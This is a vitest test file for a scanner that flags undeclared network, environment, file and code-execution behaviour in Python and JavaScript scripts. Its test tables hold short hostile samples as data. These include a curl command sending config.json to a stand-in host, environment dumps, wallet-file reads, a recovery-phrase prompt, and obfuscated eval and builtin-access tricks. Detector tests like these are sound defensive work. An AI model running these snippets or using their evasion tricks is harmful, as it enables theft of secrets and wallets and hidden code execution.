import { describe, expect, test } from 'vitest'
import samples from './hostile/unseen.json' with { type: 'json' }
import moreSamples from './hostile/unseen-2.json' with { type: 'json' }
import yetMoreSamples from './hostile/unseen-3.json' with { type: 'json' }
import samplesAgainst from './hostile/written-against.json' with { type: 'json' }
import type { FindingKind } from './terms.ts'
import { type Files, manifestOf, undeclaredIn } from './testing/archives.ts'

type Sample = { what: string; files: Files }

/** Written by somebody who had not seen the scan. Only read here, never run; all their hosts are reserved names. */
const unseen = [...samples, ...moreSamples, ...yetMoreSamples] as unknown as Sample[]
/** Written by somebody who had read the rules, each against one of them. */
const against = samplesAgainst as unknown as Sample[]

const manifest = (language: 'python' | 'javascript', entry: string) =>
  manifestOf(language, entry, {
    environment: ['RPC_TOKEN'],
    reads: ['config.json', '*'],
    writes: ['plan.csv', '*'],
    dependencies: [],
  })

const PYTHON: [what: string, code: string, kind: FindingKind][] = [
  ['another host', 'import urllib.request\nurllib.request.urlopen("https://collect.example/x")', 'network'],
  [
    'a host behind a declared one',
    'import urllib.request\nh = "rpc.example.org.evil.example"\nurllib.request.urlopen(f"https://{h}/x")',
    'network',
  ],
  [
    'a host that only the run knows',
    'import json, requests\nrequests.get(json.load(open("config.json"))["url"])',
    'network',
  ],
  [
    'a socket in a class',
    'import socket\nclass Line:\n  def __init__(self):\n    self.line = socket.socket()\n  def send(self, x):\n    self.line.connect(("203.0.113.9", 80))\n    self.line.sendall(x)',
    'network',
  ],
  [
    'a variable of the environment beside the declared one',
    'import os\nprint(os.environ["RPC_TOKEN"], os.environ.get("AWS_SECRET"))',
    'environment',
  ],
  [
    'all of the environment',
    'from os import environ as e\nopen("plan.csv", "w").write(str(dict(e)))',
    'environment',
  ],
  [
    'a program under another name',
    'import subprocess as s\nrun = s.run\nrun(["curl", "-d", "@config.json", "https://x.example"])',
    'subprocesses',
  ],
  ['evaluated base64', 'import base64\nexec(base64.b64decode("cHJpbnQoMSkgICAgIA=="))', 'evaluates-code'],
  ['a hidden name of a builtin', 'getattr(__builtins__, "ev" + "al")("1+1")', 'indirect-access'],
  [
    'a wallet file',
    'from pathlib import Path\nPath.home().joinpath(".config/solana/id.json").read_text()',
    'sensitive-file',
  ],
  ['the recovery phrase', 'answer = input("Type your recovery phrase: ")', 'keys'],
  [
    'the builtins behind the names of a function',
    '(lambda: 0).__globals__["__builtins__"]["exec"]("1")',
    'indirect-access',
  ],
  [
    'the names of the caller',
    'import sys\nsys._getframe().f_globals["__builtins__"].eval("1")',
    'indirect-access',
  ],
  [
    'the builtins of a frame, over two lines',
    'import sys\nb = sys._getframe(0).f_builtins\nimp = b["__import__"]\nimp("socket")',
    'indirect-access',
  ],
  [
    'the builtins of a frame from the stack',
    'import inspect\nb = inspect.stack()[0].frame.f_builtins\nb["exec"]("1")',
    'indirect-access',
  ],
  [
    'a program that starts with Windows',
    'import winreg\nwinreg.SetValueEx(1, "a", 0, 1, "b")',
    'sensitive-file',
  ],
  ['a file read by a loader', 'print(__spec__.loader.get_data("notes.txt"))', 'loads-code'],
  [
    'a file read by a module’s loader',
    'import json\nprint(json.__spec__.loader.get_data("notes.txt"))',
    'indirect-access',
  ],
  [
    'text made from numbers in a range',
    'codes = [1, 2]\nprint("".join(chr(codes[i] ^ 7) for i in range(2)))',
    'hidden-text',
  ],
  [
    'a module that is the default of a member',
    'import os\nclass Box: pass\nmodule = getattr(Box(), "m", os)\nsetattr(Box, "n", os)\nBox.n.system("id")',
    'indirect-access',
  ],
  ['a module of Python by a computed name', '__import__("o" + "s").system("id")', 'loads-code'],
  [
    'a member that a pattern takes',
    'match print:\n  case object(__globals__=g):\n    g["__builtins__"]',
    'indirect-access',
  ],
  ['an address that is not declared', 'TREASURY = "0x00000000000000000000000000000000000000aa"', 'addresses'],
]
const JAVASCRIPT: [what: string, code: string, kind: FindingKind][] = [
  [
    'another host',
    'const at = { a: "https://collect.example/" }\nawait fetch(at.a + "x", { method: "POST" })',
    'network',
  ],
  [
    'a child process by a dynamic import',
    'const { execSync } = await import("node:child_process")\nexecSync("sh -c id")',
    'subprocesses',
  ],
  ['all of the environment', 'const all = { ...process.env }\nconsole.log(all)', 'environment'],
  ['a constructor of functions', '[]["filter"]["constructor"]("return 1")()', 'evaluates-code'],
  ['a member whose name is assembled', 'globalThis["ev" + "al"]("1")', 'evaluates-code'],
  [
    'text made from numbers',
    'const s = String.fromCharCode(104, 116, 116, 112, 115, 58)\nconsole.log(s)',
    'hidden-text',
  ],
  [
    'a wallet of the browser',
    'import { readFileSync } from "node:fs"\nreadFileSync(process.argv[2] + "/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/0.log")',
    'sensitive-file',
  ],
  ['invisible characters', 'const a\u200b = 1', 'hidden-text'],
]

describe('a hostile script', () => {
  test.each(PYTHON)('in Python is found: %s', (_, code, kind) => {
    const found = undeclaredIn({ 'main.py': `${code}\n`, 'windfall.json': manifest('python', 'main.py') })
    expect(found.map((one) => one.kind)).toContain(kind)
  })

  test.each(JAVASCRIPT)('in JavaScript is found: %s', (_, code, kind) => {
    const found = undeclaredIn({
      'main.mjs': `${code}\n`,
      'windfall.json': manifest('javascript', 'main.mjs'),
    })
    expect(found.map((one) => one.kind)).toContain(kind)
  })

  test.each(unseen)('of somebody who had not seen the scan is found: $what', ({ files }) => {
    expect(undeclaredIn(files)).not.toEqual([])
  })

  test.each(against)('written against the rules is found: $what', ({ files }) => {
    expect(undeclaredIn(files)).not.toEqual([])
  })
})

test.each([
  ['a module of Python', { 'main.py': 'import os\nos.system("id")\n', 'os.py': '' }, 'subprocesses id'],
  [
    'a package, in a folder where Python does not look',
    { 'main.py': 'import requests\nrequests.get("https://a.example/")\n', 'lib/requests.py': '' },
    'network a.example',
  ],
])('a file with the name of %s does not hide what is imported', (_, files, finding) => {
  const found = undeclaredIn({ ...files, 'windfall.json': manifest('python', 'main.py') })
  expect(found.map(({ kind, value }) => `${kind} ${value}`)).toContain(finding)
})

test('dynamic code is declared by the names of its functions, each on its own', () => {
  const code = 'import importlib, sys\nplugin = importlib.import_module(sys.argv[1])\nexec(plugin.code)\n'
  const declaring = (...dynamicCode: string[]) =>
    undeclaredIn({
      'main.py': code,
      'windfall.json': JSON.stringify({ ...JSON.parse(manifest('python', 'main.py')), dynamicCode }),
    }).map(({ value }) => value)
  expect(declaring()).toEqual(['exec', 'importlib.import_module', '*'])
  expect(declaring('*')).toEqual(['exec', 'importlib.import_module'])
  expect(declaring('exec', 'importlib.import_module', '*')).toEqual([])
})

test.each([
  ['parentheses', `x = ${'('.repeat(20_000)}1${')'.repeat(20_000)}\n`],
  [
    'names',
    `import os\nx0 = os\n${Array.from({ length: 9_000 }, (_, at) => `x${at + 1} = x${at}`).join('\n')}\nx9000.system("id")\n`,
  ],
])('a chain of %s that is too long to follow is found, and does not end the scan', (_, code) => {
  const found = undeclaredIn({ 'main.py': code, 'windfall.json': manifest('python', 'main.py') })
  expect(found.map(({ kind }) => kind)).toContainEqual(expect.stringMatching(/^(not-scanned|subprocesses)$/))
})

test.each([
  ['an import by a call', 'name = __import__("json")\nprint(name.dumps(1))'],
  [
    'its own package by a computed name',
    'import importlib, sys\nimportlib.import_module("own.parts." + sys.argv[1])',
  ],
  ['the caller’s module name', 'import sys\nprint(sys._getframe(1).f_globals["__name__"])'],
  ['letters in a range', 'print("".join(chr(c) for c in range(ord("a"), ord("z"))))'],
  ['a long list', `WORDS = [${'"word", '.repeat(400)}]`],
  ['saved objects', 'import pickle\nprint(pickle.dumps([1]))'],
])('%s is no alarm', (_, code) => {
  const files = {
    'main.py': `${code}\n`,
    'own/__init__.py': '',
    'windfall.json': manifest('python', 'main.py'),
  }
  expect(undeclaredIn(files)).toEqual([])
})

const lines = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n')

// Reading goes over each of them once. Where it went over them again for each of their parts, this took minutes.
test.each([
  ['white space in a line', { 'main.py': `x = ${' '.repeat(200_000)}1` }],
  ['white space in a document', { 'README.md': `${' '.repeat(400_000)}x` }],
  ['a list in a line', { 'main.py': `x = [${'1, '.repeat(80_000)}y]` }],
  ['quotes in code', { 'main.py': `x = ${'"'.repeat(200_001)}` }],
  ['quotes in data', { 'data.json': '"\\'.repeat(200_000) }],
  ['comments that do not end', { 'main.mjs': '/*\n'.repeat(100_000) }],
  ['errors in a line', { 'main.mjs': '/*'.repeat(100_000) }],
  ['findings', { 'data.json': lines(40_000, () => 'curl -') }],
  [
    'files that import each other',
    Object.fromEntries(
      Array.from({ length: 900 }, (_, at) => [
        `m${at}.py`,
        `import m${(at + 1) % 900}\nfrom m${(at + 7) % 900} import *\n${lines(20, (fn) => `def f${fn}(a):\n  return g${fn}(a)`)}`,
      ]),
    ),
  ],
])('an archive full of %s is read', (_, files) => {
  expect(undeclaredIn({ ...files, 'windfall.json': manifest('python', 'main.py') })).not.toEqual([])
})

test('a pattern of many stars covers what it says, in time that grows with its length', () => {
  const declared = (pattern: string, path: string) =>
    undeclaredIn({
      'main.py': `print(open("${path}").read())\n`,
      'windfall.json': JSON.stringify({ ...JSON.parse(manifest('python', 'main.py')), reads: [pattern] }),
    }).length === 0
  expect(declared(`${'*'.repeat(100)}x`, `${'a'.repeat(180)}y`)).toBe(false)
  expect(declared(`${'*a'.repeat(50)}x`, `${'a'.repeat(180)}y`)).toBe(false)
  expect(declared('data/*.csv', 'data/prices.csv')).toBe(true)
  expect(declared('data/*.csv', 'data/old/prices.csv')).toBe(false)
  expect(declared('*/p*s.*v', 'data/prices.csv')).toBe(true)
  expect(declared('*a*b', 'xaybab')).toBe(true)
  expect(declared('prices.csv', 'prices.csv.bak')).toBe(false)
  expect(declared('prices.csv*', 'prices.csv')).toBe(true)
})

test('a script that does what it declares has nothing undeclared', () => {
  const python = [
    '"""Writes a plan. Never enter a private key."""',
    'import csv, json, os, sys, urllib.request',
    'from pathlib import Path',
    'HERE = Path(__file__).resolve().parent',
    'API = "https://rpc.example.org"',
    'def balance(address):',
    '    call = urllib.request.Request(f"{API}/balance/{address}", headers={"token": os.environ.get("RPC_TOKEN", "")})',
    '    with urllib.request.urlopen(call, timeout=10) as answer:',
    '        return json.load(answer)["balance"]',
    'config = json.loads((HERE / "config.json").read_text(encoding="utf-8"))',
    'with open("plan.csv", "w", newline="") as file:',
    '    csv.writer(file).writerows([one, balance(one)] for one in config["wallets"])',
    'print("done", file=sys.stderr)',
  ].join('\n')
  const javascript = [
    "import { readFileSync, writeFileSync } from 'node:fs'",
    "import { join } from 'node:path'",
    "const config = JSON.parse(readFileSync(join(import.meta.dirname, 'config.json'), 'utf8'))",
    "const ask = async (path) => (await fetch('https://rpc.example.org/' + path, { headers: { token: process.env.RPC_TOKEN } })).json()",
    "const rows = await Promise.all(config.wallets.map((one) => ask('balance/' + one)))",
    "writeFileSync('plan.csv', rows.join('\\n'))",
  ].join('\n')
  expect(undeclaredIn({ 'main.py': python, 'windfall.json': manifest('python', 'main.py') })).toEqual([])
  expect(
    undeclaredIn({ 'main.mjs': javascript, 'windfall.json': manifest('javascript', 'main.mjs') }),
  ).toEqual([])
})
